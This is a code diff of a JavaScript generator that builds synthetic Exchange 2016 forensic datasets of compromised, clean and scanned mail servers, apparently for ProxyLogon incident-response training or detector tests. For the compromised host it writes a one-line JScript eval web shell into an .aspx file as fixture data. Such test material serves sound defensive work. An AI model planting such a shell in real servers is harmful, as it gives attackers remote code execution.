+    GenericErrors: 'WebExceptionStatus=ProtocolError;ResponseStatusCode=500',
+  }));
 }
 
 // ---------------------------------------------------------------------------------------------------------------
@@ -699,6 +537,23 @@ function people(rng, n) {
   const names = ['anna.berg', 'ola.nordmann', 'kari.hansen', 'lars.olsen', 'ingrid.dahl', 'per.johansen', 'siri.lie', 'erik.moen', 'nina.strand', 'jonas.bakke'];
   return names.slice(0, n).map((login, i) => ({ login, rid: String(1100 + 17 * i + rng.int(0, 9)), mailboxGuid: rng.guid(), deviceId: rng.hex(32).toUpperCase() }));
 }
+
+/** A host's logs (HttpProxy, ECP Server, IIS W3SVC1 rows) and its README. */
+function writeHost(host, srv, { hp, ecp, iis }) {
+  writeHttpProxy(host, srv, hp);
+  writeEcpServer(host, srv, ecp);
+  writeIis(host, iis);
+  put(`${host}/README.md`, hostReadme(host));
+}
+
+/** MAIL0n (Exchange 2016 CU19 at `build`), drawn from its own seed so that one host's changes leave the others be. */
+function mailServer(n, build) {
+  const rng = new Rng(0x0e1c0000 + n);
+  return { rng, srv: baseServer(rng, { name: `MAIL0${n}`, build, ip: `10.20.0.1${n}`, publicIp: `192.0.2.1${n}`, dc: 'DC01.corp.example.org', org: 'Example' }) };
+}
+
+/** Exchange 2016 CU19 with the March 2021 security update. */
+const PATCHED = '15.01.2176.009';
 
 function baseServer(rng, o) {
   return server({
@@ -861,8 +716,7 @@ function oabShellBody(srv) {
 
 function mail01() {
   const host = 'mail01-compromised';
-  const rng = new Rng(0x0e1c0001);
-  const srv = baseServer(rng, { name: 'MAIL01', build: '15.01.2176.002', ip: '10.20.0.11', publicIp: '192.0.2.11', dc: 'DC01.corp.example.org', org: 'Example' });
+  const { rng, srv } = mailServer(1, '15.01.2176.002');
   // Background every other day from 2020-11-25; daily around the attack (IIS 2021-03-01..10).
   const bg = background(srv, rng, { from: '2020-11-25', to: '2021-02-27', httpEvery: 2, ecpEvery: 9, iisFrom: null });
   const late = background(srv, rng, { from: '2021-02-28', to: '2021-03-10', httpEvery: 1, ecpEvery: 3, iisEvery: 1, iisFrom: '2021-03-01', iisTo: '2021-03-10' });
@@ -937,14 +791,11 @@ function mail01() {
   hp.push(zgrab(srv, at('2021-01-19T11:47:32.435Z'), '198.51.100.201', rng));
   hp.push(zgrab(srv, at('2021-03-08T04:12:51.902Z'), '198.51.100.201', rng));
 
-  writeHttpProxy(host, srv, hp);
-  writeEcpServer(host, srv, ecp);
-  writeIis(host, iis);
+  writeHost(host, srv, { hp, ecp, iis });
 
   // Files on disk.
   put(`${host}/C/inetpub/wwwroot/aspnet_client/system_web/${shellName}.aspx`, oabShellBody(srv));
   put(`${host}/${EX}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx`, `<%@ Page Language="Jscript"%><%eval(Request.Item["orange"],"unsafe");%>${CRLF}`);
-  put(`${host}/README.md`, hostReadme(host));
   return { shellName };
 }
 
@@ -952,8 +803,7 @@ function mail01() {
 
 function mail02() {
   const host = 'mail02-clean';
-  const rng = new Rng(0x0e1c0002);
-  const srv = baseServer(rng, { name: 'MAIL02', build: '15.01.2176.009', ip: '10.20.0.12', publicIp: '192.0.2.12', dc: 'DC01.corp.example.org', org: 'Example' });
+  const { rng, srv } = mailServer(2, PATCHED);
   const bg = background(srv, rng, { from: '2020-11-25', to: '2021-03-31', httpEvery: 2, ecpEvery: 7, iisEvery: 3 });
   const ecp = [...bg.ecp];
   // An administrator's ordinary URL change: a Set-*VirtualDirectory without markup must not be a finding.
@@ -965,18 +815,14 @@ function mail02() {
       url: `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${rng.alnum(43)}.&schema=OWAVirtualDirectory`,
     }),
   });
-  writeHttpProxy(host, srv, bg.hp);
-  writeEcpServer(host, srv, ecp);
-  writeIis(host, bg.iis);
-  put(`${host}/README.md`, hostReadme(host));
+  writeHost(host, srv, { ...bg, ecp });
 }
 
 // ---- mail03-scanned: patched, only Internet scanners -----------------------------------------------------------
 
 function mail03() {
   const host = 'mail03-scanned';
-  const rng = new Rng(0x0e1c0003);
-  const srv = baseServer(rng, { name: 'MAIL03', build: '15.01.2176.009', ip: '10.20.0.13', publicIp: '192.0.2.13', dc: 'DC01.corp.example.org', org: 'Example' });
+  const { rng, srv } = mailServer(3, PATCHED);
   const bg = background(srv, rng, { from: '2020-11-25', to: '2021-03-31', httpEvery: 4, ecpEvery: 14, iisEvery: 6 });
   const hp = [...bg.hp];
   for (const [time, ip] of [
@@ -989,10 +835,7 @@ function mail03() {
   hp.push(burpCanary(srv, at('2021-03-12T09:31:44.270Z'), '203.0.113.200', rng));
   hp.push(zgrab(srv, at('2021-01-19T11:47:32.435Z'), '198.51.100.201', rng));
   hp.push(zgrab(srv, at('2021-03-21T18:05:10.007Z'), '198.51.100.201', rng));
-  writeHttpProxy(host, srv, hp);
-  writeEcpServer(host, srv, bg.ecp);
-  writeIis(host, bg.iis);
-  put(`${host}/README.md`, hostReadme(host));
+  writeHost(host, srv, { ...bg, hp });
 }
 
 // ---- mail04-nologs: Exchange installed, logs gone --------------------------------------------------------------
